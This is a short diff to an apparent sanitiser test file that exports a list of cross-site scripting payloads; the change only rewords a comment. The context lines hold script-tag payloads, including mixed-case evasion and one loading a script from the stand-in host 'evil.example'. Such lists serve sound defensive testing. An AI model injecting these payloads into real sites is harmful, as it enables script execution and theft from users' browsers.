@@ -1,6 +1,6 @@
 /** Attempts to get past a sanitiser with something that runs, loads or deceives. */
 export const xssPayloads: readonly string[] = [
-  // Script elements, and what a careless removal of them leaves
+  // Script elements, and the remains of their careless removal
   '<script>alert(1)</script>',
   '<ScRiPt>alert(1)</sCrIpT>',
   '<script src=//evil.example/x.js></script>',
